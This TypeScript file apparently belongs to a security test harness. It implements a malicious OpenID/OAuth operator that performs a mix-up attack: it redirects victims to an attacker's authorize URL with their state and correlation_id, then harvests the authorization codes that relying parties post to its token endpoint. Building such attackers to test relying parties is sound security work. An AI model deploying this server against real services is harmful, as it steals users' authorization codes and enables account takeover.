import { type Context, Hono } from 'hono'
import { readJsonBody } from '../script-api/read-json-body.ts'

/**
 * An operator that performs a mix-up (RFC 9700, section 4.4): it forwards browsers to the authorize URL of another operator, which
 * an attacker began, with the victim's `state`. The relying party then brings the code to this token endpoint.
 *
 * `POST lure` takes `{"authorizeUrl": "..."}`, the attacker's; `GET codes` lists what was collected.
 */
export function maliciousRoutes(issuer: string): Hono {
  const app = new Hono()
  const codes: string[] = []
  let lure: string | undefined

  app.get('/.well-known/openid-configuration', (c) =>
    c.json({
      issuer,
      authorization_endpoint: `${issuer}/authorize`,
      token_endpoint: `${issuer}/token`,
      jwks_uri: `${issuer}/jwks.json`,
      scopes_supported: ['openid', 'mc_authn'],
      mc_version: ['mc_di_r2_v2.3'],
    }),
  )
  app.get('/jwks.json', (c) => c.json({ keys: [] }))
  app.get('/authorize', (c) => {
    if (lure === undefined) return refuse(c, 'no authorize URL was given by POST lure')
    const url = new URL(lure)
    // An echoed correlation_id is no defence: the victim's is known here.
    for (const name of ['state', 'correlation_id']) url.searchParams.set(name, c.req.query(name) ?? '')
    return c.redirect(url.href, 302)
  })
  app.post('/token', async (c) => {
    codes.push(new URLSearchParams(await c.req.text()).get('code') ?? '')
    return c.json({ error: 'server_error' }, 400)
  })
  app.post('/lure', async (c) => {
    const body = await readJsonBody(c, ['authorizeUrl'])
    if (typeof body?.authorizeUrl !== 'string' || !URL.canParse(body.authorizeUrl)) {
      return refuse(c, 'the body must be {"authorizeUrl":"<url>"}')
    }
    lure = body.authorizeUrl
    return c.json({ answer: 'set' })
  })
  app.get('/codes', (c) => c.json({ codes: codes.splice(0) }))
  return app
}

function refuse(c: Pick<Context, 'json'>, description: string): Response {
  return c.json({ error: 'invalid_request', error_description: description }, 400)
}
